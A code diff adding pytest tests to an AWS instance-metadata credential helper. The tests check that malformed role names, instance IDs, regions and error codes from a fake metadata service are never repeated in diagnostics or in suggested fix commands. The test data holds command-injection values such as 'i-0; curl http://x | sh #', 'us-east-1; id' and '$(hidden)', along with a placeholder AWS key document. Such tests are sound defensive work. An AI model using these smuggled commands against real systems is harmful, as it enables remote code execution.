@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import socket
 import ssl
@@ -9,11 +10,12 @@ from typing import TYPE_CHECKING
 
 import pytest
 
-from credhelper.aws.metadata import Cause, region, whose, why_no_keys
+from credhelper.aws.metadata import Cause, region, whose, why_no_keys, why_not
 from tests.conftest import NOWHERE
-from tests.contract.answering import answering
+from tests.contract.answering import answering, answering_by_path
 
 if TYPE_CHECKING:
+    from contextlib import AbstractContextManager
     from pathlib import Path
 
     from tests.instance.services import Loopback
@@ -167,3 +169,95 @@ def test_what_gives_no_token_and_knows_of_no_role_is_another_cloud_s() -> None:
     assert seen.cause is not None
     assert "is not EC2's" in seen.cause.clause
     assert "associate-iam-instance-profile" not in seen.cause.fix
+
+
+DOCUMENT = {
+    "Code": "Success",
+    "Type": "AWS-HMAC",
+    "AccessKeyId": "ASIAIOSFODNN7EXAMPLE",
+    "SecretAccessKey": "hiddenK7MDENGbPxRfiCYEXAMPLEKEYhidden4321",
+    "Token": "hidden-token",
+}
+NOT_A_ROLE = [
+    DOCUMENT,
+    json.dumps(DOCUMENT, indent=1).encode(),
+    b"<html>hidden</html>",
+    b"app role hidden",
+    b"app-role\nhidden",
+    b"app-role/hidden",
+    b"hidden\x1b[2J",
+    "hidden-r\u00f6le".encode(),
+    b"hidden" * 11,
+    b"hidden" * 200_000,
+    b"hidden;id",
+    b"$(hidden)",
+    b"\xffhidden",
+]
+
+
+def imds(
+    role: object, info: object = b"", instance: bytes = b"", role_status: int = 200
+) -> AbstractContextManager[str]:
+    """Give the URL of a service that answers as metadata does, but for some of its answers."""
+    return answering_by_path(
+        {
+            "/latest/api/token": (200, b"token"),
+            "/latest/meta-data/iam/security-credentials/": (role_status, role),
+            "/latest/meta-data/iam/info": (200, info),
+            "/latest/meta-data/instance-id": (200, instance),
+            "/latest/meta-data/placement/region": (200, instance),
+        }
+    )
+
+
+@pytest.mark.parametrize("role", NOT_A_ROLE)
+def test_what_is_not_the_name_of_a_role_is_not_repeated(role: object) -> None:
+    with imds(role) as url:
+        seen = whose(url)
+        found = why_not(url)
+    assert found.id == "metadata-failed"
+    assert "not the name of a role" in found.clause
+    assert "hidden" not in repr((seen, found))
+
+
+@pytest.mark.parametrize("role", ["app-role", "a", "x" * 64, "a+b=c,d.e@f-g_h", "app-role\n"])
+def test_the_name_of_a_role_is_taken(role: str) -> None:
+    with imds(role.encode()) as url:
+        assert whose(url).name == role.strip()
+
+
+@pytest.mark.parametrize(
+    "info",
+    [
+        DOCUMENT,
+        b"hidden",
+        b"[" * 60_000,
+        {"InstanceProfileArn": "hidden", "InstanceProfileId": "AIPA1"},
+        {"InstanceProfileArn": "arn:aws:iam::123456789012:instance-profile/app", "InstanceProfileId": "hidden"},
+        {"InstanceProfileArn": "arn:aws:iam::123456789012:instance-profile/a b", "InstanceProfileId": "AIPA1"},
+        {"InstanceProfileArn": DOCUMENT, "InstanceProfileId": DOCUMENT},
+    ],
+)
+def test_an_instance_profile_that_is_none_is_not_kept(info: object) -> None:
+    with imds(b"app-role", info) as url:
+        assert whose(url).role == ""
+
+
+@pytest.mark.parametrize("id_", [b"hidden", b"i-0; curl http://x | sh #", b"i-0\n1", b"i-" + b"0" * 1000, b"I-0"])
+def test_an_instance_s_id_that_is_none_is_not_in_the_command(id_: bytes) -> None:
+    with imds(b"", instance=id_, role_status=404) as url:
+        assert "--instance-id ID --iam" in cause(url).fix
+
+
+@pytest.mark.parametrize("name", [b"hidden secret", b"us-east-1; id", b"US", b"x" * 100, json.dumps(DOCUMENT).encode()])
+def test_a_region_that_is_none_is_not_repeated(name: bytes) -> None:
+    with imds(b"", instance=name) as url:
+        assert region(url) == ""
+
+
+@pytest.mark.parametrize("code", ["hidden code", "hidden" * 50, {"hidden": 1}, "hidden\x1b[2J", "hidden\n", 1])
+def test_a_code_that_is_none_is_not_repeated(code: object) -> None:
+    with answering({"Code": code}) as url:
+        found = why_no_keys(url, "app-role")
+    assert "hidden" not in repr(found)
+    assert "an unknown code" in found.clause
